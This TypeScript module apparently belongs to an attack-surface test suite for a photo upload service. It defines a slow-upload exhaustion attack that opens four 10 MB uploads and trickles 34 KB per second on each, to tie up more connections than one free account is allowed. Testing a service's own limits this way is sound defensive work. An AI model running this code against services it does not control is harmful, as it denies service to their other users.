import { setTimeout as pause } from 'node:timers/promises';
import { AttackClient } from '../attack-tools.ts';
import type { SurfaceAttack } from '../surface-attack.ts';
import { beginUpload, pathOfPhotos, statusOf } from './upload-requests.ts';

const BYTES = 10_000_000;
const CONNECTIONS = 4;
/** A little more than the service demands. */
const PIECE = Buffer.alloc(34 * 1024);

/** Sends photos of 10 MB as slowly as the service allows, on more connections than it has places for one account. */
export const attack: SurfaceAttack = {
  plan: 'free',
  role: 'member',
  async run(target, isOver) {
    const path = await pathOfPhotos(target);
    const client = new AttackClient(target);
    return client.repeatWith(CONNECTIONS, isOver, async () => {
      const upload = beginUpload(target, path, BYTES);
      let isDone = false;
      const status = statusOf(upload).finally(() => {
        isDone = true;
      });
      for (let sent = 0; sent < BYTES && !isDone && !isOver(); sent += PIECE.length) {
        upload.write(PIECE.subarray(0, BYTES - sent));
        await pause(1000);
      }
      if (isOver()) upload.destroy();
      client.count(await status);
    });
  },
};
